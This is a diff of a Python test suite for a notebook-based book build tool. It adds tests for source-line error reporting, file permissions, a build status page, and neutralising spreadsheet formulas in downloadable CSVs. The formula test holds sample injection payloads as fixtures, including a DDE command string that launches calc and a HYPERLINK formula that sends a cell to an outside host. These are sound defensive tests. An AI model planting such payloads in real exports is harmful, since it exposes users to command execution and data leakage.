@@ -36,8 +36,7 @@ def test_build_prints_one_line_per_step(built):
     steps = [l for l in proc.stdout.splitlines() if re.match(r"\[\d/7\]", l)]
     assert [s.split(":")[0] for s in steps] == [
         "[1/7] validate", "[2/7] prepare", "[3/7] execute", "[4/7] pages", "[5/7] jupyter-book",
-        "[6/7] search",
-        "[7/7] publish"]
+        "[6/7] post-build", "[7/7] publish"]
 
 
 def test_index_and_corpus_page_show_all_articles(built):
@@ -100,12 +99,19 @@ def test_re_executing_every_chapter_gives_identical_outputs(built):
     assert not changed, changed
 
 
-def test_unchanged_rebuild_skips_execution(built):
+def test_unchanged_rebuild_does_nothing(built):
+    """Nothing changed: the build says so and stops before any step (no Sphinx,
+    no copy); the published book is the same release, untouched."""
     paths, _ = built
+    release = paths.html.resolve()
     proc = run_cli("build", root=paths.root)
     assert proc.returncode == 0, proc.stderr
-    assert "executed" not in proc.stdout, proc.stdout
-    assert "chapter corpus: up to date" in proc.stdout
+    assert proc.stdout.startswith("up to date:"), proc.stdout
+    assert "[1/7]" not in proc.stdout and "executed" not in proc.stdout, proc.stdout
+    assert paths.html.resolve() == release
+    proc = run_cli("execute", root=paths.root)
+    assert proc.returncode == 0, proc.stderr
+    assert "chapter corpus: up to date" in proc.stdout and "executed" not in proc.stdout
 
 
 def test_chapter_source_opens_as_its_executed_notebook(built):
@@ -229,15 +235,26 @@ class Body(HTMLParser):
         self.text += data
 
 
-def test_failing_chapter_names_its_cell_and_keeps_the_book(built):
+def test_failing_chapter_names_its_source_line_and_keeps_the_book(built):
+    """Defect 9: the error names book/<chapter>.py, the line where the failing cell
+    starts and the failing line itself, not papermill's execution count."""
     paths, _ = built
     before = _page(paths)
     source = paths.notebooks_src / "corpus.py"
     original = source.read_text(encoding="utf-8")
-    source.write_text(original + '\n# %%\nraise ValueError("deliberate")\n', encoding="utf-8")
+    broken = original + '\n# %%\nn = len(corpus)\n\nraise ValueError("deliberate")\n'
+    lines = broken.splitlines()
+    cell_line = len(lines) - lines[::-1].index("# %%")          # the marker's line, 1-based
+    raise_line = cell_line + 3
+    assert lines[raise_line - 1] == 'raise ValueError("deliberate")'
+    source.write_text(broken, encoding="utf-8")
     try:
         proc = run_cli("build", root=paths.root)
-        assert_one_clear_error(proc, "chapter corpus", "ValueError: deliberate")
+        line = assert_one_clear_error(proc, "chapter corpus", "ValueError: deliberate",
+                                      f"book/corpus.py:{raise_line}",
+                                      f"cell that starts at line {cell_line}",
+                                      'raise ValueError("deliberate")')
+        assert not re.search(r"\bcell \d", line), line
         assert "TCP without encryption" not in proc.stderr  # kernel chatter goes to a log
         assert _page(paths) == before
         assert (paths.build / "failed" / "corpus.ipynb").exists()
@@ -249,10 +266,14 @@ def test_corrupt_article_fails_and_keeps_the_last_good_book(built):
     paths, _ = built
     before = _page(paths)
     target = paths.raw / "002_15eaa9dbf04ff99c.txt"
-    target.write_bytes(target.read_bytes() + b"x")
-    proc = run_cli("build", root=paths.root)
-    assert_one_clear_error(proc, "data/raw/002_15eaa9dbf04ff99c.txt", "checksum mismatch")
-    assert _page(paths) == before
+    original = target.read_bytes()
+    target.write_bytes(original + b"x")
+    try:
+        proc = run_cli("build", root=paths.root)
+        assert_one_clear_error(proc, "data/raw/002_15eaa9dbf04ff99c.txt", "checksum mismatch")
+        assert _page(paths) == before
+    finally:
+        target.write_bytes(original)
 
 
 def test_references_list_the_articles_and_every_fact_address(built):
@@ -288,3 +309,93 @@ def test_every_processed_table_is_offered_for_download(built):
     for f in sorted(paths.processed.iterdir()):
         if f.is_file():
             assert re.search(rf'href="\.\./_downloads/[0-9a-f]+/{re.escape(f.name)}"', page), f.name
+
+
+# --- defect 8: no spreadsheet formula in any CSV offered for download -------------------
+
+FORMULA_FIELDS = {"title": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+                  "outlet": "+SUM(1,2)", "notes": "@cmd|' /C calc'!A0", "dated-by": "-2+3"}
+_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
+
+
+def offered_csvs(paths) -> dict:
+    """Every CSV a page of the published book links to: file → the pages that offer it."""
+    from pathlib import Path
+    from urllib.parse import unquote, urlsplit
+
+    root = paths.html.resolve()
+    found: dict = {}
+    for page in sorted(root.rglob("*.html")):
+        for href in re.findall(r'href="([^"#?]+\.csv)"', page.read_text(encoding="utf-8")):
+            if urlsplit(href).scheme:
+                continue
+            target = (page.parent / unquote(href)).resolve()
+            assert target.is_file() and root in target.parents, (page, href)
+            found.setdefault(target, []).append(page.relative_to(root))
+    return found
+
+
+def test_no_csv_offered_starts_a_cell_with_a_formula(built, tmp_path):
+    import csv
+
+    paths, _ = built
+    src = tmp_path / "formula.txt"
+    src.write_text("أعلنت الشرطة إغلاق 300 قناة على تيليغرام.\n", encoding="utf-8")
+    proc = run_cli("add-article", str(src), "--lang", "ar", "--date", "2019-11",
+                   *[f"--{k}={v}" for k, v in FORMULA_FIELDS.items()], root=paths.root)
+    assert proc.returncode == 0, proc.stderr
+    proc = run_cli("build", root=paths.root)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    offered = offered_csvs(paths)
+    names = {p.name for p in offered}
+    # every processed table and every figure's table is among them
+    assert {p.name for p in paths.processed.glob("*.csv")} <= names
+    assert {p.name for p in (paths.book / "figures").glob("*.csv")} <= names
+    neutralised, numbers = [], []
+    for path in offered:
+        with open(path, encoding="utf-8", newline="") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                        assert _NUMBER.match(cell), (path.name, cell)   # a number stays a number
+                        numbers.append(cell)
+                    elif cell[:2] in {"'" + c for c in "=+-@\t\r"}:
+                        neutralised.append(cell)
+    for value in FORMULA_FIELDS.values():
+        assert "'" + value in neutralised, value                     # shown as text, kept whole
+    assert "-95.5" in numbers                                         # facts.csv keeps its number
+
+
+def test_files_the_build_writes_keep_the_umask(built):
+    """Defect 10: executed notebooks, generated pages and the HTML rewritten after
+    Sphinx get 0666 less the umask, like any new file, not mkstemp's 0600."""
+    import os
+    import stat
+
+    paths, _ = built
+    mask = os.umask(0)
+    os.umask(mask)
+    expected = 0o666 & ~mask
+    files = [*paths.book.glob("*.ipynb"), *(paths.book / "articles").glob("*.md"),
+             paths.book / "status.md", paths.build / "toc.yml",
+             paths.html / "book" / "articles" / "001.html", paths.html / "book" / "corpus.html",
+             paths.html / "book" / "status.html"]
+    wrong = {str(f.relative_to(paths.root)): oct(stat.S_IMODE(f.stat().st_mode)) for f in files
+             if stat.S_IMODE(f.stat().st_mode) != expected}
+    assert not wrong, (oct(expected), wrong)
+
+
+def test_status_page_says_how_the_book_was_built(built):
+    from importlib.metadata import version
+
+    paths, _ = built
+    page = _page(paths, "status")
+    assert "not a git checkout" in page                       # the copy has no .git
+    assert re.search(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC", page)
+    assert f"<td><p>{version('jupyter-book')}</p></td>" in page and f"<td><p>{version('pandas')}</p></td>" in page
+    table = page.split('id="build-status-chapters"', 1)[1].split("<!-- /build-status -->", 1)[0]
+    rows = re.findall(r'<tr><td><a href="(\w+)\.html">', table)
+    assert rows == ["corpus", "platform_policy", "takedown_numbers", "migration_networks", "codebook",
+                    "methods"]
+    assert table.count("book/corpus.py") == 1 and re.search(r"<code>[0-9a-f]{16}</code>", table)
+    assert 'href="status.html">Build status</a>' in _page(paths, "intro")   # in the table of contents
